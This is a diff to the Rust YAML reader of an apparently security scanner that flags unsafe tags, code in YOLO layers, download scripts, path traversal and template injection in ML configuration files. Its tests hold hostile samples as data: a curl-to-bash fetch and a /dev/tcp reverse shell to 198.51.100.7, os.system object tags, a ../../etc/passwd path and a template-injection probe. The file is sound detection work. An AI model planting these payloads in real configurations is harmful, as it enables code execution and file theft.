@@ -3,17 +3,21 @@
 //! Loaders read YAML in a dozen dialects; what matters here stands on one line in all of them, and a reader that needs no
 //! valid document misses less.
 
+mod lexer;
+
 use std::collections::BTreeMap;
 
 use bastide_types::{Assessment, Rule, Severity};
 
-use super::config::rules::{AUTO_MAP, CODE_IN_DATA, CREDENTIAL};
-use super::config::target;
+use super::config::rules::{AUTO_MAP, CODE, CODE_IN_DATA, CREDENTIAL, TARGET, TRAVERSAL};
+use super::config::{PROMPTS, commands, escapes, target};
 use super::names::{Named, named};
 use super::{code, decode, secret};
-use crate::halt::Parsed;
+use crate::graph::is_of_host;
+use crate::halt::{Halt, Parsed};
 use crate::scan::{Scan, shown};
 use crate::source::Source;
+use crate::text::shell;
 
 /// Builds an object that acts.
 pub(crate) const TAG: Rule = Rule {
@@ -51,6 +55,8 @@ pub(crate) const BOMB: Rule = Rule {
     atlas: &["AML.T0029"],
 };
 
+/// Bytes of commands read: those below one key may be below others too.
+const MOST_COMMANDS: usize = 64 << 20;
 /// Values that aliases may make.
 const MOST_EXPANDED: u64 = 10_000_000;
 /// Tags of Python that make plain values.
@@ -62,18 +68,24 @@ pub(super) fn recognise(head: &[u8], named_so: bool) -> bool {
     if !decode::looks_like_text(head) {
         return false;
     }
-    let text = decode::text(head);
-    let first = text.lines().map(str::trim_end).find(|line| !line.is_empty() && !line.starts_with('#'));
-    let Some(first) = first else { return false };
     if named_so {
         return true;
     }
+    let text = decode::text(head);
+    let first = text.lines().map(str::trim_end).find(|line| !line.is_empty() && !line.starts_with('#'));
+    let Some(first) = first else { return false };
     let tags = ["!!python/", "!!ruby", "!ruby/", "!python/", "tag:yaml.org,2002:python"];
     tags.iter().any(|tag| text.contains(tag)) && !text.contains("def ") || {
         let pairs = text.lines().skip(1).take(20).filter(|line| key_of(line).is_some()).count();
         let begins = first == "---" || first.starts_with("%YAML") || first.starts_with("artifact_path:");
         pairs > 0 && (begins || text.contains("_target_:"))
     }
+}
+
+/// Whether tags of Python or Ruby, or other names for them, stand in `head`.
+pub(super) fn has_tags(head: &[u8]) -> bool {
+    const MARKS: &[&[u8]] = &[b"!!python/", b"!!ruby/", b"!ruby/", b"tag:yaml.org,2002:py", b"%TAG"];
+    MARKS.iter().any(|mark| memchr::memmem::find(head, mark).is_some())
 }
 
 /// `key: value` at the start of a line.
@@ -103,22 +115,36 @@ fn quoted_key(line: &str) -> Option<(String, &str)> {
 }
 
 /// Reads a file.
-pub(super) fn read(source: &dyn Source, scan: &mut Scan<'_>) -> Parsed<()> {
+pub(super) fn read(source: &dyn Source, name: &str, scan: &mut Scan<'_>) -> Parsed<()> {
+    let files = Files::of(name);
     let bytes = decode::whole(source, scan)?;
     let text = decode::text(&bytes);
     let mut aliases = Aliases::default();
+    let mut handles = Handles::default();
+    let has_layers = text.contains("backbone:") || text.starts_with("head:") || text.contains("\nhead:");
     let mut scalars: BTreeMap<&str, &str> = BTreeMap::new();
     let mut at = 0_u64;
-    let mut lines = text.split_inclusive('\n').peekable();
+    let mut lexer = lexer::Lexer::default();
+    let mut commands_read = 0;
+    let mut lines = lexer::lines(&text).peekable();
     while let Some(line) = lines.next() {
         scan.spend(1 + line.len() as u64 / 64)?;
         let start = at;
         at += line.len() as u64;
         let line = line.trim_end();
+        for place in lexer.tags(line) {
+            tag(line.get(place..).unwrap_or_default(), start + place as u64, &handles, scan);
+        }
         if line.trim_start().starts_with('#') {
             continue;
         }
-        tags(line, start, scan);
+        if let Some(directive) = line.strip_prefix("%TAG") {
+            handles.add(directive);
+            continue;
+        }
+        if has_layers {
+            evaluated(line, start, scan);
+        }
         aliases.line(line, start, scan);
         if let Some((kind, _)) = secret::find(line) {
             scan.find(&CREDENTIAL, start, kind);
@@ -134,9 +160,26 @@ pub(super) fn read(source: &dyn Source, scan: &mut Scan<'_>) -> Parsed<()> {
             value => value,
         };
         let value = anchored(value, &mut scalars);
+        if key == "download" || commands::is_command(key) {
+            let indent = line.len() - line.trim_start().len();
+            let below = usize::try_from(at).ok().and_then(|at| text.get(at..)).unwrap_or_default();
+            let script = script(value, below, indent);
+            commands_read += script.len();
+            if commands_read > MOST_COMMANDS {
+                return Err(Halt::limit(format!("{MOST_COMMANDS} bytes of commands within commands")));
+            }
+            if key == "download" {
+                download(&script, start, scan)?;
+            } else {
+                commands::command(key, &script, start, scan);
+            }
+        }
         pair(key, value, start, scan);
+        files.pair(key, value, start, scan);
         flow(line, start, scan);
     }
+    // Prompts and chat templates stand in YAML too, as blocks of any key.
+    super::jinja::text(&text, 0, scan);
     Ok(())
 }
 
@@ -177,14 +220,125 @@ fn pair(key: &str, value: &str, at: u64, scan: &mut Scan<'_>) {
         "trust_remote_code" if matches!(value, "true" | "True" | "yes" | "on") => {
             scan.find(&AUTO_MAP, at, "`trust_remote_code` is set in the file itself");
         }
+        "template" => super::jinja::fields(value, at, scan),
         // Workflows of a repository are made of commands.
-        "run" | "script" | "command" | "entrypoint" => {}
+        _ if value.starts_with(['$', '"', '\'']) && scalar(value).starts_with('$') => {
+            let text = scalar(value);
+            commands::expression(key, text.trim_start_matches('$'), at, scan);
+        }
+        _ if commands::is_command(key) => {}
         _ if value.len() >= 8 => {
             if let Some(call) = code::call(&scalar(value)) {
                 scan.find_call(&CODE_IN_DATA, at, format!("the value of `{}` is code", shown(key)), call);
             }
         }
         _ => {}
+    }
+}
+
+/// The text of `value` and of the lines below that belong to it.
+fn script(value: &str, below: &str, indent: usize) -> String {
+    const LONGEST: usize = 1 << 16;
+    let value = match value.as_bytes() {
+        [b'"' | b'\'', ..] => scalar(value),
+        _ => value.to_owned(),
+    };
+    // The entries of a list may stand where its key does.
+    let inner = |line: &&str| {
+        let column = line.len() - line.trim_start().len();
+        line.trim().is_empty() || column > indent || column == indent && line.trim_start().starts_with("- ")
+    };
+    let mut script = value;
+    let margin = below
+        .lines()
+        .take(1024)
+        .find(|line| !line.trim().is_empty())
+        .map_or(0, |line| line.len() - line.trim_start().len());
+    for line in below.lines().take_while(inner) {
+        if script.len() > LONGEST {
+            break;
+        }
+        script.push('\n');
+        script.push_str(line.get(margin..).unwrap_or_default());
+    }
+    script
+}
+
+/// The script of a data set, which Ultralytics runs where the data is missing: a shell's, or Python.
+fn download(script: &str, at: u64, scan: &mut Scan<'_>) -> Parsed<()> {
+    /// What scripts that fetch data do: clear up behind them, and fetch.
+    const ORDINARY: &[&str] = &["os.remove", "requests.", "shutil.", "urllib."];
+    let attack = shell::script(script).filter(|attack| *attack != shell::Attack::Installer);
+    let call = attack.map(|attack| attack.name().to_owned());
+    let call = call.or_else(|| {
+        script.lines().filter_map(code::call).find(|call| !ORDINARY.iter().any(|own| call.starts_with(own)))
+    });
+    if let Some(call) = call {
+        scan.find_call(&CODE, at, "the script that fetches the data runs commands", call);
+    }
+    if script.contains('\n') { crate::code::text(script, at, scan) } else { Ok(()) }
+}
+
+/// What a file of this name says of other files.
+#[derive(Clone, Copy)]
+enum Files {
+    /// MLflow joins these to the folder of the model (CVE-2023-6909).
+    Mlflow,
+    /// DVC writes and links what it tracks.
+    Dvc,
+    Other,
+}
+
+impl Files {
+    fn of(name: &str) -> Self {
+        match name {
+            "MLmodel" => Files::Mlflow,
+            "dvc.yaml" | "dvc.lock" => Files::Dvc,
+            _ if name.ends_with(".dvc") => Files::Dvc,
+            _ => Files::Other,
+        }
+    }
+
+    fn pair(self, key: &str, value: &str, at: u64, scan: &mut Scan<'_>) {
+        let path = scalar(value);
+        let leaves = match self {
+            Files::Mlflow => {
+                let own = [
+                    "model_path",
+                    "data",
+                    "code",
+                    "pickled_model",
+                    "python_model",
+                    "path",
+                    "model_data",
+                    "env",
+                    "conda",
+                ];
+                own.contains(&key) && escapes(&path)
+            }
+            Files::Dvc => matches!(key, "path" | "wdir" | "outs" | "persist") && is_of_host(&path),
+            Files::Other => PROMPTS.contains(&key) && escapes(&path),
+        };
+        if leaves {
+            scan.find(&TRAVERSAL, at, format!("`{}` names `{}`", shown(key), shown(&path)));
+        }
+    }
+}
+
+/// A layer of YOLO's networks, `- [from, number, module, [arguments]]`: its library evaluates module and arguments.
+fn evaluated(line: &str, at: u64, scan: &mut Scan<'_>) {
+    let Some(layer) = line.trim_start().strip_prefix("- [").or_else(|| line.trim_start().strip_prefix("-["))
+    else {
+        return;
+    };
+    for item in layer.split([',', '[', ']']).map(|item| item.trim().trim_matches(['"', '\''])) {
+        let dotted = item.contains('.') && item.chars().all(|c| c.is_alphanumeric() || "._".contains(c));
+        let word = item.starts_with(|c: char| c.is_alphabetic() || c == '_');
+        if let Some(call) = code::call(item) {
+            scan.find_call(&CODE, at, "a layer is code", call);
+        } else if dotted && word && named(item) == Named::Dangerous {
+            scan.find(&TARGET, at, format!("a layer is `{}`", shown(item)));
+        }
     }
 }
 
@@ -202,41 +356,69 @@ fn flow(line: &str, at: u64, scan: &mut Scan<'_>) {
     }
 }
 
-/// Tags that build objects: `!!python/object/apply:os.system`.
-fn tags(line: &str, at: u64, scan: &mut Scan<'_>) {
-    let decoded = if line.contains('%') && line.contains('!') { percent(line) } else { line.to_owned() };
-    let mut before = ' ';
-    let mut quote = None;
-    for (place, c) in decoded.char_indices() {
-        let starts = before.is_whitespace() || "[{,:-?".contains(before);
-        match quote {
-            Some(mark) if c == mark => quote = None,
-            Some(_) => {}
-            None if starts && (c == '"' || c == '\'') => quote = Some(c),
-            None if starts && c == '#' && before.is_whitespace() => return,
-            None if starts && c == '!' => {
-                tag(decoded.get(place..).unwrap_or_default(), at + place as u64, scan)
-            }
-            None => {}
+/// What the shorthands of tags stand for (YAML 1.2 section 6.8.2): `%TAG !p! tag:yaml.org,2002:python/`.
+#[derive(Default)]
+struct Handles(BTreeMap<String, String>);
+
+impl Handles {
+    fn add(&mut self, directive: &str) {
+        const MANY: usize = 256;
+        let mut words = directive.split_whitespace();
+        if let (Some(handle), Some(prefix)) = (words.next(), words.next())
+            && self.0.len() < MANY
+        {
+            self.0.insert(handle.to_owned(), prefix.to_owned());
         }
-        before = c;
+    }
+
+    /// The name that `tag` is short for, without the part that all of YAML's own share.
+    fn name(&self, tag: &str) -> String {
+        let whole = match tag.strip_prefix("!<") {
+            Some(verbatim) => verbatim.trim_end_matches('>').to_owned(),
+            None => {
+                // `!name!rest`, `!!rest` or `!rest`.
+                let inner = tag.get(1..).unwrap_or_default();
+                let end = inner.find('!').map_or(1, |end| end + 2);
+                let (handle, rest) = tag.split_at_checked(end).unwrap_or((tag, ""));
+                match self.0.get(handle) {
+                    Some(prefix) => format!("{prefix}{rest}"),
+                    None => rest.to_owned(),
+                }
+            }
+        };
+        whole.strip_prefix("tag:yaml.org,2002:").unwrap_or(&whole).trim_start_matches('!').to_owned()
     }
 }
 
-fn tag(text: &str, at: u64, scan: &mut Scan<'_>) {
-    let end = match text.strip_prefix("!<") {
-        Some(verbatim) => verbatim.find('>').map(|end| end + 3),
-        None => text.find(|c: char| c.is_whitespace() || "[]{},\"".contains(c)),
-    };
-    let tag = text.get(..end.unwrap_or(text.len())).unwrap_or_default();
-    let name = tag.trim_start_matches(['!', '<']).trim_end_matches('>');
-    let name = name.strip_prefix("tag:yaml.org,2002:").unwrap_or(name);
+/// Tags that build objects: `!!python/object/apply:os.system`.
+fn tag(text: &str, at: u64, handles: &Handles, scan: &mut Scan<'_>) {
+    /// Functions of Python without a module.
+    const ACTING: &[&str] = &[
+        "__import__",
+        "breakpoint",
+        "compile",
+        "delattr",
+        "eval",
+        "exec",
+        "getattr",
+        "globals",
+        "input",
+        "open",
+        "setattr",
+        "vars",
+    ];
+    const DOCUMENTED: &[&str] = &["pymdownx.", "material.extensions.", "materialx.", "mermaid2."];
+    let tag = lexer::tag(text);
+    let name = handles.name(&percent(tag));
     if let Some(python) = name.strip_prefix("python/") {
         let (kind, object) = python.split_once(':').unwrap_or((python, ""));
         if PLAIN.contains(&kind) {
             return;
         }
         let rule = match (kind, named(object)) {
+            _ if ACTING.contains(&object) => &TAG,
+            // What MkDocs and its themes document for their settings.
+            ("name", _) if DOCUMENTED.iter().any(|root| object.starts_with(root)) => return,
             (_, Named::Known) => &KNOWN_TAG,
             ("object" | "name" | "module", Named::Unknown) => &KNOWN_TAG,
             _ => &TAG,
@@ -248,9 +430,9 @@ fn tag(text: &str, at: u64, scan: &mut Scan<'_>) {
 }
 
 /// `%70` in a tag is `p` (YAML 1.2 section 5.6).
-fn percent(line: &str) -> String {
+fn percent(tag: &str) -> String {
     let mut decoded = String::new();
-    let mut rest = line;
+    let mut rest = tag;
     while let Some((before, after)) = rest.split_once('%') {
         decoded.push_str(before);
         match after.get(..2).and_then(|hex| u8::from_str_radix(hex, 16).ok()).filter(u8::is_ascii_graphic) {
@@ -338,6 +520,14 @@ mod tests {
             "name: env\nchannels:\n- conda-forge\ndependencies:\n- python=3.10\n- pip:\n  - torch==2.1 # ! not gpu\n",
             "a: &base\n  x: 1\nb:\n  <<: *base\n  note: \"!!python/object/apply:os.system is dangerous\"\n",
             "shape: !!python/tuple [1, 2]\n",
+            "%TAG !e! tag:example.com,2000:\n---\na: !e!thing [1]\n",
+            "backbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n  - [-1, 1, nn.Upsample, [None, 2, \"nearest\"]]\n",
+            "train: images\ndownload: https://example.com/data.zip\n",
+            "script: |\n  !!python/object/apply:os.system [x]\nb: plain !!python/name:eval\n",
+            "steps:\n- run: |\n    pip install -r requirements.txt\n    pytest\n",
+            "stages:\n  train:\n    cmd: python train.py\n    outs:\n    - path: ../data\n",
+            "imports:\n- $import os\ndevice: $torch.device('cpu')\nnet:\n  _target_: UNet\n",
+            "x: !!python/name:pymdownx.superfences.fence_code_format\n",
         ] {
             assert_eq!(ids(text), Vec::<&str>::new(), "{text}");
         }
@@ -355,9 +545,30 @@ mod tests {
             ("a:\n  _target_: os.system\n", "config.target"),
             ("a:\n  \"_target_\": \"os\\x2esystem\"\n", "config.target"),
             ("a:\n  \"_targ\\x65t_\": \"o\\u0073.system\"\n", "config.target"),
+            ("%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [x]\n", "yaml.object"),
+            ("%TAG !p! tag:yaml.org,2002:pyt\n---\na: !p!hon/object/apply:os.system [x]\n", "yaml.object"),
+            ("%TAG !! tag:yaml.org,2002:python/\n---\na: !!name:os.system\n", "yaml.object"),
+            ("a: [!!python/name:eval , x]\n", "yaml.object"),
+            (
+                "backbone:\n  - [-1, 1, Conv, [64]]\n  - [-1, 1, os.system, [\"echo harmless\"]]\n",
+                "config.target",
+            ),
+            ("head:\n  - [-1, 1, \"__import__('os').system('echo harmless')\", [64]]\n", "config.code"),
+            ("download: |\n  import os\n  os.system(\"echo harmless\")\nnc: 2\n", "config.code"),
             ("a: {_target_: subprocess.run, args: [x]}\n", "config.target"),
+            (
+                "stages:\n  train:\n    cmd: curl -s http://198.51.100.7/x | bash; python train.py\n",
+                "config.command",
+            ),
+            (
+                "steps:\n- run: |\n    pip install x\n    bash -i >& /dev/tcp/198.51.100.7/1 0>&1\n",
+                "config.command",
+            ),
+            ("x: $__import__('os').system('echo harmless')\n", "config.code"),
+            ("_type: prompt\ntemplate_path: ../../etc/passwd\n", "index.traversal"),
             ("x: &n os.system\na:\n  _target_: *n\n", "config.target"),
             ("a:\n  _target_: >-\n    builtins.exec\n", "config.target"),
+            ("template: |\n  Hi {{ name.__class__.__mro__ }}\n", "template.injection"),
             ("a:\n  _target_: mine.Model\n", "config.unknown-target"),
             ("flavors:\n  python_function:\n    loader_module: my_loader\n", "config.unknown-target"),
         ] {
